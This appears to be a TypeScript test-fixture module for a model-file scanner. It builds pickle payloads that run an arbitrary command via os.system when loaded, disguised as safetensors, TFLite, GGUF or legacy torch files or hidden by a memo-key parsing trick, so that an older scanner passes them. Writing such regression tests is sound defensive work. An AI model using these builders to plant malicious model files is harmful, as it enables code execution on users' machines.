// Builds the files of issue 20's attacks byte by byte: each runs `command` under CPython's
// pickle.load (the e2e test proves it with python3) while the old scanner called it clean.
// Strings are Latin-1; every builder returns the whole file.

const bin = (s: string): Buffer => Buffer.from(s, 'latin1');
const u64 = (n: number): Buffer => {
  const b = Buffer.alloc(8);
  b.writeBigUInt64LE(BigInt(n));
  return b;
};
const shortUnicode = (s: string): Buffer => Buffer.concat([bin('\x8c'), Buffer.from([s.length]), bin(s)]);

/** Protocol 0: os.system(command) then STOP. The STRING argument is quoted with ' (no ' in command). */
export const systemCall = (command: string): Buffer => bin(`cos\nsystem\n(S'${command}'\ntR.`);

/** torch.save's first legacy pickle: protocol 2, LONG1 MAGIC_NUMBER, STOP. */
export const TORCH_MAGIC_PICKLE = Buffer.from('80028a0a6cfc9c46f9206aa850192e', 'hex');

/**
 * A valid safetensors file (one U8 tensor tiling the data section) that is also a pickle: the header
 * length's low byte is 0x56, UNICODE, whose line runs through the whole JSON header (it has no newline)
 * to the first data byte, a newline; the rest of the data is os.system(command).
 */
export function safetensorsPicklePolyglot(command: string): Buffer {
  const data = Buffer.concat([bin('\n'), systemCall(command)]);
  const length = 0x156; // low byte 'V'; no 0x0a among the length's bytes
  const json = JSON.stringify({ t: { dtype: 'U8', shape: [data.length], data_offsets: [0, data.length] } });
  if (json.length > length) throw new Error('header does not fit');
  return Buffer.concat([u64(length), bin(json.padEnd(length, ' ')), data]);
}

/** A pickle whose bytes 4-7 are TFL3 (a SHORT_BINSTRING the pickle then POPs), then os.system(command). */
export const tfliteMagicPickle = (command: string): Buffer =>
  Buffer.concat([bin('\x80\x02U\x04TFL30'), systemCall(command)]);

/** A pickle starting GGUF: BINFLOAT eats "GUF" + GGUF version 3 + 1 byte, POP, then os.system(command). */
export const ggufMagicPickle = (command: string): Buffer =>
  Buffer.concat([bin('GGUF\x03\x00\x00\x00\x000'), systemCall(command)]);

/** torch's legacy layout: the magic-number pickle, then a second pickle with no PROTO: os.system(command). */
export const torchLegacySecondPickle = (command: string): Buffer =>
  Buffer.concat([TORCH_MAGIC_PICKLE, systemCall(command)]);

/**
 * Memo keys read with int() semantics: `PUT 1_0` stores at key 10 (CPython) where parseInt reads 1, so
 * BINGET 10/11 fetch "os"/"system" for CPython but "collections"/"OrderedDict" for a parseInt reader.
 */
export function memoUnderscorePickle(command: string): Buffer {
  return Buffer.concat([
    bin('\x80\x04'),
    shortUnicode('collections'),
    bin('q\x0a'), // BINPUT 10
    shortUnicode('OrderedDict'),
    bin('q\x0b'), // BINPUT 11
    shortUnicode('os'),
    bin('p1_0\n'), // PUT "1_0" = 10
    shortUnicode('system'),
    bin('p1_1\n'), // PUT "1_1" = 11
    bin('0000'), // POP x4
    bin('h\x0ah\x0b\x93'), // BINGET 10, BINGET 11, STACK_GLOBAL
    shortUnicode(command),
    bin('\x85R.'), // TUPLE1, REDUCE, STOP
  ]);
}
